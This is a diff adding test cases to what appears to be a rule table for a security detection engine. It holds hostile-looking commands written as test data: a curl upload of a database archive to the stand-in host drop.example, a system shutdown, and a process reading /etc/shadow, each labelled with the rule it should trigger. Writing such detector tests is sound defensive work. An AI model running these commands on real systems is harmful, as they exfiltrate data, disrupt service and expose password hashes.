@@ -343,6 +343,16 @@ const CASES: Case[] = [
   },
   { name: "aws s3 ls", steps: (p) => one(exec(p, "aws", ["aws", "s3", "ls"])) },
   {
+    name: "shutdown -h now",
+    fires: "impact-system-shutdown-or-reboot",
+    steps: (p) => one(exec(p, "shutdown", ["shutdown", "-h", "now"])),
+  },
+  {
+    name: "reboot after unattended upgrades",
+    steps: (p) => one(exec(p, "shutdown", ["shutdown", "-r", "now"], "unattended-upgr")),
+  },
+  { name: "atd reads /etc/shadow", steps: (p) => one(file(p, "atd", "open", "/etc/shadow")) },
+  {
     name: "curl -T",
     fires: "exfiltration-curl-wget-file-upload",
     steps: (p) => one(exec(p, "curl", ["curl", "-T", "db.tgz", "https://drop.example/"])),
